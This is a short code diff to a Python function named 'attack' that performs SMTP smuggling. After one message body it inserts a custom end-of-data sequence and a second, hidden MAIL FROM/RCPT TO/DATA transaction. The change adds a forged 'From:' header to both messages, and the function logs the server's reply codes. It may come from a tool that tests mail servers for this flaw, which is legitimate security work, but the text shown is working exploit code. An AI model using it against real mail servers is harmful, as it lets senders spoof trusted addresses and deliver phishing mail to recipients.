@@ -52,8 +52,9 @@ def attack(door, sender, recipient, end, mark):
         door.say(b"RCPT TO:<" + recipient + b">")
         if not door.say(b"DATA").startswith(b"354"):
             return ["no DATA"]
-        second = b"MAIL FROM:<" + sender + b">\r\nRCPT TO:<" + recipient + b">\r\nDATA\r\nSubject: smuggled " + mark + b"\r\n\r\nx"
-        door.socket.sendall(b"Subject: first " + mark + b"\r\n\r\nbody" + end + second + b"\r\n.\r\nNOOP\r\nQUIT\r\n")
+        author = b"From: <" + sender + b">\r\n"
+        second = b"MAIL FROM:<" + sender + b">\r\nRCPT TO:<" + recipient + b">\r\nDATA\r\n" + author + b"Subject: smuggled " + mark + b"\r\n\r\nx"
+        door.socket.sendall(author + b"Subject: first " + mark + b"\r\n\r\nbody" + end + second + b"\r\n.\r\nNOOP\r\nQUIT\r\n")
         while True:
             codes.append(door.reply()[:3].decode())
     except (EOFError, ConnectionError):
